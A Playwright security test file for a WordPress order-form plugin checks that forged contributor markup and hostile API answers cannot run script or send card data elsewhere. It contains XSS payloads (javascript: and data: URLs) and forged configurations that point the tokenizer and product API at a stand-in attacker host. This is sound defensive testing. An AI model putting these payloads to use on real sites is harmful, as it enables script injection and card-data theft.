/**
 * No script but ours: what a contributor writes and what the API answers never runs script on the site, and the
 * card goes nowhere but the tokenizer the site owner configured. An attacker's script here sets a window flag and
 * opens a dialog; a request to a host the owner did not configure is recorded (and aborted).
 */
import { expect, test, type Page } from '@playwright/test';

import { publishContributorPost } from './support/gateway';
import {
	fillFields,
	keepRedirectWait,
	registeredAgentVisitor,
} from './support/order-form';
import { patternFiles } from './support/patterns';
import {
	resetSandbox,
	SANDBOX_URL,
	sandboxRequests,
	setFaults,
} from './support/sandbox';

const ATTACKER = 'http://attacker.invalid';
const PAYLOAD = 'window.foHijacked=true;alert(document.domain)';
const JAVASCRIPT_URL = `javascript:${ PAYLOAD }`;

interface Watch {
	dialogs: string[];
	/** Requests to any origin but the site's and the configured services' (the sandbox). */
	foreign: string[];
	hijacked: () => Promise< boolean >;
}

async function watch( page: Page, baseURL: string ): Promise< Watch > {
	const dialogs: string[] = [];
	const foreign: string[] = [];
	const allowed = [
		new URL( baseURL ).origin,
		new URL( SANDBOX_URL ).origin,
	];
	page.on( 'dialog', ( dialog ) => {
		dialogs.push( dialog.message() );
		dialog.dismiss().catch( () => undefined );
	} );
	page.on( 'request', ( request ) => {
		const url = request.url();
		if ( ! allowed.includes( new URL( url ).origin ) ) {
			foreign.push( url );
		}
	} );
	await page.route( `${ ATTACKER }/**`, ( route ) => route.abort() );
	return {
		dialogs,
		foreign,
		hijacked: () =>
			page.evaluate(
				() =>
					( window as unknown as { foHijacked?: boolean } )
						.foHijacked === true
			),
	};
}

async function expectNothingRan( watched: Watch ): Promise< void > {
	expect( watched.dialogs ).toEqual( [] );
	expect( await watched.hijacked() ).toBe( false );
	expect( watched.foreign ).toEqual( [] );
}

/** The configuration WordPress printed for the first form of a page. */
async function printedConfig(
	page: Page,
	path: string
): Promise< Record< string, any > > {
	const html = await ( await page.request.get( path ) ).text();
	const match =
		/<script type="application\/json"[^>]*class="formation-orders__config"[^>]*>(.*?)<\/script>/s.exec(
			html
		);
	expect( match ).not.toBeNull();
	return JSON.parse( match?.[ 1 ] ?? '{}' );
}

/** A Custom HTML block that dresses up as an order form with its own configuration, as kses lets it through. */
function forgedForm( config: unknown ): string {
	const json = JSON.stringify( config )
		.replace( /&/g, '&amp;' )
		.replace( /</g, '&lt;' )
		.replace( />/g, '&gt;' );
	return `<!-- wp:html -->\n<div class="formation-orders"><div class="formation-orders__mount"></div><code class="formation-orders__config">${ json }</code></div>\n<!-- /wp:html -->\n`;
}

const LOGIN_FORM = `<!-- wp:formation-orders/order-form {"formType":"login","stepMode":false,"submitButtonText":"Log In","termsText":""} -->
<!-- wp:formation-orders/form-step {"key":"login","label":"Log in"} -->
<!-- wp:formation-orders/account-login /-->
<!-- /wp:formation-orders/form-step -->
<!-- /wp:formation-orders/order-form -->`;

test.beforeEach( async () => {
	await resetSandbox();
} );

test( "a contributor's forged form configuration (captcha script data:, tokenizer and product API elsewhere) never runs", async ( {
	page,
	baseURL,
} ) => {
	const config = await printedConfig(
		page,
		'/registered-agent-single-page/'
	);
	delete config.catalog;
	config.captchaScriptUrl = `data:text/javascript,${ PAYLOAD }//`;
	config.tokenizerUrl = `${ ATTACKER }/tokenize`;
	config.productApiUrl = `${ ATTACKER }/api`;
	config.form.steps.at( -1 ).modules.push( {
		name: 'captcha',
		attributes: {},
	} );
	const link = publishContributorPost( forgedForm( config ) + LOGIN_FORM );

	const watched = await watch( page, baseURL as string );
	await page.goto( link );
	// The forged markup is on the page (kses kept it), and only the real form became one.
	await expect( page.locator( 'code.formation-orders__config' ) ).toHaveCount(
		1
	);
	await expect( page.getByLabel( 'Username or Email' ) ).toBeVisible();
	await page.waitForLoadState( 'networkidle' );
	await expectNothingRan( watched );
	await expect( page.locator( '.formation-orders.is-ready' ) ).toHaveCount(
		1
	);
} );

test( 'paying on a page that also holds a forged form, the card goes only to the configured tokenizer', async ( {
	page,
	baseURL,
} ) => {
	const config = await printedConfig(
		page,
		'/registered-agent-single-page/'
	);
	config.tokenizerUrl = `${ ATTACKER }/tokenize`;
	// The registered-agent single page's pattern, its terms link pointed at javascript: by the contributor.
	const realForm = (
		patternFiles().find(
			( pattern ) => pattern.slug === 'registered-agent-single-page'
		)?.content ?? ''
	).replace(
		'<!-- wp:formation-orders/order-form {"stepMode":false,',
		`<!-- wp:formation-orders/order-form {"stepMode":false,"termsUrl":"${ JAVASCRIPT_URL }",`
	);
	expect( realForm ).toContain( JAVASCRIPT_URL );
	const link = publishContributorPost( forgedForm( config ) + realForm );
	const visitor = registeredAgentVisitor();

	const watched = await watch( page, baseURL as string );
	// "Redirecting…" is read before the page leaves.
	await keepRedirectWait( page );
	await page.goto( link );
	// By field id, as a visitor would fill whichever form the page shows first.
	await fillFields( page, {
		'companyInformation.state.key': visitor.state,
		'companyInformation.companyName': visitor.companyName,
		...visitor.contact,
		...visitor.account,
		...visitor.payment,
	} );
	await page
		.locator( '.formation-orders', {
			has: page.locator( '#fo-paymentInformation-number' ),
		} )
		.getByRole( 'button', { name: 'Submit Order' } )
		.click();
	// Placed, or refused: either way the card has gone wherever it goes.
	await expect(
		page
			.getByRole( 'status' )
			.filter( { hasText: 'Redirecting' } )
			.or( page.getByRole( 'alert' ) )
	).toBeVisible();
	await expectNothingRan( watched );
	expect(
		( await sandboxRequests( '/tokenizer/tokenize' ) ).map(
			( request ) => request.cardLast4
		)
	).toEqual( [ '4242' ] );
	await page.waitForURL( /\/login\?account=\d+/ );
	await page.goBack();
	// The terms link the contributor pointed at javascript: leads to the site's terms page instead.
	await expect( page.locator( 'a[href^="javascript" i]' ) ).toHaveCount( 0 );
} );

test( "a contributor's domain search with a javascript: cart URL continues to the next step instead", async ( {
	page,
	baseURL,
} ) => {
	const link = publishContributorPost(
		`<!-- wp:formation-orders/order-form {"formType":"domain-registration"} -->
<!-- wp:formation-orders/form-step {"key":"domains","label":"Domains"} -->
<!-- wp:formation-orders/domain-search {"routing":true,"maxDomains":1,"cartUrl":"${ JAVASCRIPT_URL }","products":[{"saveAs":"domain","category":"domain","primary":true}]} /-->
<!-- /wp:formation-orders/form-step -->
<!-- wp:formation-orders/form-step {"key":"contact","label":"Contact"} -->
<!-- wp:formation-orders/contact-information /-->
<!-- /wp:formation-orders/form-step -->
<!-- /wp:formation-orders/order-form -->`
	);

	const watched = await watch( page, baseURL as string );
	await page.goto( `${ link }#/analytical-engines.com` );
	await page.getByRole( 'button', { name: 'Add to cart' } ).click();
	// Past the 1.5 s the search waits before it goes to the cart.
	await page.waitForTimeout( 2000 );
	await expectNothingRan( watched );
	await expect(
		page.getByRole( 'heading', { name: 'Contact', level: 2 } )
	).toBeVisible();
} );

test( 'an API answer whose login_url is javascript: or another host is not followed', async ( {
	page,
	baseURL,
} ) => {
	const watched = await watch( page, baseURL as string );
	for ( const loginUrl of [ JAVASCRIPT_URL, `${ ATTACKER }/login` ] ) {
		await setFaults( {
			'/api/process_login': {
				status: 200,
				body: JSON.stringify( {
					result: { account_id: 5000, login_url: loginUrl },
				} ),
			},
		} );
		await page.goto( '/login/' );
		await page.getByLabel( 'Username or Email' ).fill( 'ada' );
		await page
			.getByLabel( 'Password', { exact: true } )
			.fill( 'Analytical-Engine-1' );
		await page.getByRole( 'button', { name: 'Log In' } ).click();
		await expect( page.getByRole( 'status' ) ).toContainText(
			'Redirecting'
		);
		// Past the 1.5 s a success waits before it leaves the page.
		await page.waitForTimeout( 2000 );
		await expectNothingRan( watched );
		await expect( page ).toHaveURL( /\/login\/$/ );
	}
} );

test( 'the stack serves none of its own dot-folders (logs, database)', async ( {
	request,
	baseURL,
} ) => {
	const port = new URL( baseURL as string ).port;
	for ( const path of [
		`/wp-content/plugins/formation-orders/.stack/${ port }/logs/mariadb.log`,
		`/wp-content/plugins/formation-orders/.stack/${ port }/db/aria_log_control`,
		'/wp-content/plugins/formation-orders/.git',
	] ) {
		expect( ( await request.get( path ) ).status(), path ).toBe( 404 );
	}
} );
